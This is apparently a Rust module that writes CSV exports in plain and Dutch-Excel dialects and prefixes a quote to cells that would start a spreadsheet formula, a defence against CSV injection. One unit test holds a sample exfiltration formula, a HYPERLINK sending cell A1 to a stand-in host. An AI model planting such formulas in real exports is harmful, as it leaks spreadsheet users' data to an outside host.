//! CSV for people: every CSV the node hands out (the overview, the audit export) is written
//! here, so that a cell cannot become a formula when the file is opened in a spreadsheet.
//!
//! Registry texts (a mission's name, a duty station) and audit fields (a purpose, a typed
//! username) are chosen by users. A spreadsheet runs a cell that starts with `=`, `+`, `-` or
//! `@` as a formula, and tab and carriage return lead to the same on some; such a cell gets a
//! leading `'`, which spreadsheets show as text (OWASP, "CSV Injection").
//!
//! Each CSV comes in two dialects: the plain one (RFC 4180: `,`, no byte order mark) for
//! programs, and one for Excel as Dutch offices run it ([`Dialect::Excel`]): `;` between
//! cells, because a Dutch Excel reads `,` as the decimal comma and puts a whole row in one
//! cell; a UTF-8 byte order mark, without which Excel reads "België" as "BelgiÃ«"; and CRLF
//! line ends.

use std::borrow::Cow;

/// The cell as a spreadsheet shows it as text: with a leading `'` when it would start a
/// formula, unchanged otherwise.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// The two ways a CSV is written: for programs, or for Excel.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    /// RFC 4180: `,` and LF, no byte order mark.
    Plain,
    /// `;`, CRLF and a UTF-8 byte order mark: opens in a Dutch Excel with every cell and
    /// every accent in its place.
    Excel,
}

/// The UTF-8 byte order mark that tells Excel the file is UTF-8.
pub const BOM: char = '\u{feff}';

impl Dialect {
    /// `excel` (or `csv-excel`) for Excel; `csv`, `plain` or nothing for plain.
    pub fn parse(value: &str) -> Option<Dialect> {
        match value.trim().to_ascii_lowercase().as_str() {
            "" | "csv" | "plain" => Some(Dialect::Plain),
            "excel" | "csv-excel" => Some(Dialect::Excel),
            _ => None,
        }
    }

    /// The file name's end: `.csv`, or `-excel.csv`, so both can sit in one folder.
    pub fn suffix(self) -> &'static str {
        match self {
            Dialect::Plain => ".csv",
            Dialect::Excel => "-excel.csv",
        }
    }
}

/// A CSV document (RFC 4180 quoting by the csv crate) of `rows`, each cell neutralised.
pub fn csv_document<R, C>(rows: R) -> String
where
    R: IntoIterator,
    R::Item: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    csv_in(Dialect::Plain, rows)
}

/// The same document for Excel: `;`, CRLF, a byte order mark; cells neutralised alike.
pub fn excel_csv_document<R, C>(rows: R) -> String
where
    R: IntoIterator,
    R::Item: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    csv_in(Dialect::Excel, rows)
}

/// A CSV document of `rows` in `dialect`, each cell neutralised.
pub fn csv_in<R, C>(dialect: Dialect, rows: R) -> String
where
    R: IntoIterator,
    R::Item: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    let mut builder = csv::WriterBuilder::new();
    if dialect == Dialect::Excel {
        builder.delimiter(b';').terminator(csv::Terminator::CRLF);
    }
    let mut writer = builder.from_writer(Vec::new());
    for row in rows {
        let cells: Vec<String> = row
            .into_iter()
            .map(|cell| neutralise(cell.as_ref()).into_owned())
            .collect();
        // Writing to memory cannot fail.
        let _ = writer.write_record(&cells);
    }
    let text = writer
        .into_inner()
        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
        .unwrap_or_default();
    match dialect {
        Dialect::Plain => text,
        Dialect::Excel => format!("{BOM}{text}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_would_start_a_formula_are_shown_as_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1)",
            "+1+1",
            "-2*3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(formula), format!("'{formula}"), "{formula:?}");
        }
        for plain in ["EULEX Kosovo", "12", "", "a=b", "Totaal", "'quoted"] {
            assert_eq!(neutralise(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn a_document_neutralises_every_cell_and_quotes_as_rfc_4180() {
        let text = csv_document([["name", "count"], ["=1+1", "3"], ["a,b", "-4"]]);
        assert_eq!(text, "name,count\n'=1+1,3\n\"a,b\",'-4\n");
    }

    #[test]
    fn the_excel_dialect_has_a_bom_semicolons_and_crlf_and_neutralises_alike() {
        let text = excel_csv_document([["naam", "land"], ["=1+1", "België; Luxemburg"]]);
        assert_eq!(text, "\u{feff}naam;land\r\n'=1+1;\"België; Luxemburg\"\r\n");
        // A comma needs no quotes in it: a Dutch Excel reads it as part of the cell.
        assert_eq!(excel_csv_document([["a,b", "@x"]]), "\u{feff}a,b;'@x\r\n");
        assert_eq!(Dialect::parse("Excel"), Some(Dialect::Excel));
        assert_eq!(Dialect::parse(""), Some(Dialect::Plain));
        assert_eq!(Dialect::parse("xlsx"), None);
    }
}
